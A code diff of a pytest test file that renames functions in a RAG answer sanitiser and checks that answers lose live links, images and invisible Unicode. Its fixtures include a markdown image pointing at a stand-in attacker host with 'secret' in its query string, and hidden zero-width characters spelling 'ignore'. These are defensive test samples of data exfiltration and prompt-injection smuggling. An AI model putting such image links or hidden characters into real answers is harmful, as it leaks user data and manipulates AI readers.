@@ -6,7 +6,7 @@ import re
 
 import pytest
 
-from rag.text.sanitise import plain, visible
+from rag.text.sanitise import sanitise_answer, strip_invisible
 
 EVIL = "https://evil.example/p.png?q=secret"
 LIVE = re.compile(r"!\[|\]\(|<[a-z/!]|javascript:|data:|(?<!`)https?://|(?<![\w`/])www\.", re.IGNORECASE)
@@ -30,8 +30,8 @@ LIVE = re.compile(r"!\[|\]\(|<[a-z/!]|javascript:|data:|(?<!`)https?://|(?<![\w`
     ],
 )
 def test_what_leads_away_is_text(text: str, shown: str) -> None:
-    assert plain(text) == shown
-    assert not LIVE.search(plain(text))
+    assert sanitise_answer(text) == shown
+    assert not LIVE.search(sanitise_answer(text))
 
 
 @pytest.mark.parametrize(
@@ -51,21 +51,25 @@ def test_what_leads_away_is_text(text: str, shown: str) -> None:
     ],
 )
 def test_nothing_loads(text: str) -> None:
-    assert not LIVE.search(plain(text))
-    assert not LIVE.search(plain(text, text.replace(EVIL, "")))
+    assert not LIVE.search(sanitise_answer(text))
+    assert not LIVE.search(sanitise_answer(text, text.replace(EVIL, "")))
 
 
 def test_a_link_of_the_source_stays_a_link() -> None:
     source = "Register at https://lanternhill.example/register, then wait."
-    assert plain("Register at https://lanternhill.example/register.", source).endswith("/register.")
-    assert "https://lanternhill.example/register" in plain("[here](https://lanternhill.example/register)", source)
+    assert sanitise_answer("Register at https://lanternhill.example/register.", source).endswith("/register.")
+    assert "https://lanternhill.example/register" in sanitise_answer(
+        "[here](https://lanternhill.example/register)", source
+    )
     longer = "https://lanternhill.example/register?name=Anna"
-    assert "https://" not in plain(f"Register at {longer}", source)
-    assert "https://" not in plain("Register at https://lanternhill.example/", source)
+    assert "https://" not in sanitise_answer(f"Register at {longer}", source)
+    assert "https://" not in sanitise_answer("Register at https://lanternhill.example/", source)
 
 
 def test_a_picture_of_the_source_is_no_link() -> None:
-    assert plain(f"Trees ![]({EVIL})", f"Trees ![]({EVIL})") == "Trees [] (`evil.example/p.png?q=secret`)"
+    assert (
+        sanitise_answer(f"Trees ![]({EVIL})", f"Trees ![]({EVIL})") == "Trees [] (`evil.example/p.png?q=secret`)"
+    )
 
 
 @pytest.mark.parametrize(
@@ -74,15 +78,15 @@ def test_a_picture_of_the_source_is_no_link() -> None:
      "5 °C ± 1", "👩‍👩‍👧 and ❤️", "if x != y: z", "C:\\Users", "24/7", "E03：冷却 40 分钟", "x <= y", "and/or"],
 )  # fmt: skip
 def test_what_is_no_link_stays_as_it_is(text: str) -> None:
-    assert plain(text) == text
+    assert sanitise_answer(text) == text
 
 
 def test_what_no_reader_sees_is_taken_out() -> None:
-    assert visible("ig\u200bno\u2060re \u202eabc\u202c\U000e0069") == "ignore abc"
-    assert visible("忽\u200d略") == "忽略"
+    assert strip_invisible("ig\u200bno\u2060re \u202eabc\u202c\U000e0069") == "ignore abc"
+    assert strip_invisible("忽\u200d略") == "忽略"
 
 
 def test_long_text_takes_no_time() -> None:
-    plain("![" * 20_000)
-    plain("<a " * 20_000)
-    plain("http://" * 20_000, "http://" * 20_000)
+    sanitise_answer("![" * 20_000)
+    sanitise_answer("<a " * 20_000)
+    sanitise_answer("http://" * 20_000, "http://" * 20_000)
